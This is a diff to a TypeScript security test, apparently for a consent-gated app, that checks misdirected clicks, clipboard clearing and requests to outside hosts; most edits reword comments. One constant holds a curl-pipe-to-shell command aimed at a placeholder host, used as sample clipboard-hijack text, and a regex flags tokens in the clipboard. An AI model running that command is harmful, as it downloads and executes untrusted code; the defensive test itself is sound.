@@ -11,7 +11,7 @@ import { dose, some } from '../support/nightly.ts';
 import { draftFor } from '../support/services.ts';
 import { App, withClock, type MovedClock } from './scene.ts';
 
-/** Text that a compromised page would like to put on the clipboard, for example to be pasted into a terminal. */
+/** Text that a compromised page could put on the clipboard so that the user pastes it into a terminal. */
 const ELSEWHERE = 'https://elsewhere.example';
 const OWN_TEXT = `curl ${ELSEWHERE} | sh`;
 const HOUR_S = 3600;
@@ -20,10 +20,10 @@ interface Scene {
   readonly app: App;
   readonly practice: PracticeService;
   readonly clock: MovedClock;
-  /** Real values of call arguments by name, such as ids. They replace the values of test/contract/examples. */
+  /** Values of call arguments by name, such as real ids. They replace the values of test/contract/examples. */
   readonly args: Readonly<Record<string, unknown>>;
   readonly dialogs: () => number;
-  /** Number of requests to other hosts than the practice service. */
+  /** Number of requests to hosts other than the practice service. */
   readonly elsewhere: () => number;
 }
 
@@ -63,7 +63,7 @@ async function inScene(clock: MovedClock, play: Play): Promise<readonly Case[]> 
     const { connectionId } = app;
     const [paper] = practice.samplePapers;
     const ids = [...(await practice.contents()).boards];
-    // Delays deletes for longer than the check lasts, so that no pending delete sends a request.
+    // Delays deletes beyond the end of the check, so that no pending delete sends a request.
     const holdSeconds = { single: HOUR_S, bulk: HOUR_S };
     await app.must('app.prefer', { ...DEFAULT_PREFERENCES, holdSeconds });
     const reviewId = await app.review(ids);
@@ -109,7 +109,6 @@ const needsConsent = (name: CallName, args: unknown): boolean => consentOf(CALLS
 const wanting = (scene: Scene): readonly CallName[] =>
   CALL_NAMES.filter((name) => needsConsent(name, argsFor(name, scene)));
 
-/** Preferences that protect less than the usual preferences. */
 const WEAKER = [
   { clearClipboard: null },
   { clearClipboard: 3600 },
@@ -140,10 +139,10 @@ async function alone(scene: Scene): Promise<readonly Case[]> {
   return [...cases, { name: 'all together', problems: await changesOf(scene) }];
 }
 
-/** Calls that run last, because they remove the connection or its API keys, which the remaining calls need. */
+/** Calls that run last, because they remove the connection or its API keys, which other calls need. */
 const LAST: readonly CallName[] = ['connections.remove', 'lock.removeKeys'];
 
-/** Tries each call with a click that the user meant for something else. The user then denies the call's dialog. */
+/** Tries each call with a click that the user meant for something else. The user denies the call's dialog. */
 async function stolen(scene: Scene): Promise<readonly Case[]> {
   const cases: Case[] = [];
   const { app, clock, practice, args } = scene;
@@ -159,7 +158,6 @@ async function stolen(scene: Scene): Promise<readonly Case[]> {
   ];
   let before = await guardedOf(scene);
   for (const [name, own] of plays) {
-    // Advances the clock, so that no call hits its rate limit.
     clock.ahead += 2000;
     await app.services.call(name, own as never);
     const now = await guardedOf(scene);
@@ -206,7 +204,7 @@ async function leftMain({ app, practice, dialogs }: Scene): Promise<readonly str
   const sent = log
     .filter(({ method }) => method !== 'GET')
     .map(({ method, path }) => `${method} ${path} was sent`);
-  // Ignores copied ids, which need no click.
+  // Copied ids are allowed, because copying them needs no click.
   const text = app.services.clipboard();
   const isSecret = /token=|eyJ/u.test(text) || text.includes(OWN_TEXT);
   const copied = isSecret ? ['a text of the page, a link or a token went to the clipboard'] : [];
